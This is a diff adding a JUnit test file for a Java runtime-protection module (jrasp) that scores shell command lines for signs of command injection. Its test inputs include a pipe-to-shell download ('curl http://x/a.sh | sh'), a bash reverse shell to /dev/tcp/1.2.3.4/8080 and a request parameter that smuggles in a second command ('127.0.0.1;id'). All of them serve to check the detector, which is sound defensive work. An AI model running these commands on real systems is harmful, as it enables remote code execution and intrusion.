@@ -0,0 +1,70 @@
+package com.jrasp.module.rce;
+
+import org.junit.Test;
+
+import java.util.Arrays;
+import java.util.Collections;
+import java.util.Map;
+
+import static org.junit.Assert.assertEquals;
+import static org.junit.Assert.assertFalse;
+import static org.junit.Assert.assertTrue;
+
+public class ShellLexerTest {
+
+    private static ShellVerdict analyze(String... argv) {
+        return ShellLexer.analyze(CommandLine.decode(argv), null);
+    }
+
+    @Test
+    public void plainCommand() {
+        assertEquals(0, analyze("/usr/bin/git", "status").getScore());
+        assertTrue(analyze("/bin/ls", "-la", "/tmp").getReasons().isEmpty());
+    }
+
+    @Test
+    public void interpreterWithCommandFlag() {
+        assertEquals(Arrays.asList("interpreter"), analyze("/bin/sh", "-c", "id").getReasons());
+        assertEquals(Arrays.asList("interpreter"), analyze("cmd.exe", "/c", "whoami").getReasons());
+        assertTrue(analyze("python3", "-c", "print(1)").has(ShellVerdict.INTERPRETER));
+        assertFalse(analyze("/bin/sh", "script.sh").has(ShellVerdict.INTERPRETER));
+    }
+
+    @Test
+    public void combinedCommandFlags() {
+        assertTrue(analyze("bash", "-lc", "id").has(ShellVerdict.INTERPRETER));
+        assertTrue(analyze("/bin/sh", "-xc", "id").has(ShellVerdict.INTERPRETER));
+        assertTrue(analyze("/bin/sh", "-ec", "id").has(ShellVerdict.INTERPRETER));
+        assertTrue(analyze("perl", "-ne", "print").has(ShellVerdict.INTERPRETER));
+        assertFalse(analyze("bash", "-l", "script.sh").has(ShellVerdict.INTERPRETER));
+        assertFalse(analyze("bash", "--rcfile", "x").has(ShellVerdict.INTERPRETER));
+        assertFalse(analyze("powershell", "-NonInteractive", "-File", "a.ps1").has(ShellVerdict.INTERPRETER));
+    }
+
+    @Test
+    public void shellFeatures() {
+        assertEquals(Arrays.asList("interpreter", "metachar", "downloader", "pipeToShell"),
+                analyze("/bin/sh", "-c", "curl http://x/a.sh | sh").getReasons());
+        ShellVerdict verdict = analyze("bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/8080 0>&1");
+        assertTrue(verdict.has(ShellVerdict.REVERSE_SHELL));
+        assertTrue(verdict.has(ShellVerdict.REDIRECT));
+    }
+
+    @Test
+    public void requestParameterCorrelation() {
+        Map<String, String[]> parameterMap = Collections.singletonMap("host", new String[]{"127.0.0.1;id"});
+        ShellVerdict verdict = ShellLexer.analyze(CommandLine.decode(new String[]{"/bin/sh", "-c", "ping 127.0.0.1;id"}), parameterMap);
+        assertTrue(verdict.has(ShellVerdict.REQUEST_PARAMETER));
+        // 太短的参数值不关联
+        parameterMap = Collections.singletonMap("a", new String[]{"id"});
+        verdict = ShellLexer.analyze(CommandLine.decode(new String[]{"/usr/bin/id"}), parameterMap);
+        assertFalse(verdict.has(ShellVerdict.REQUEST_PARAMETER));
+    }
+
+    @Test
+    public void scoreIsHigherWithInterpreter() {
+        int plain = analyze("/bin/echo", "a;b").getScore();
+        int shell = analyze("/bin/sh", "-c", "echo a;b").getScore();
+        assertTrue(shell > plain);
+    }
+}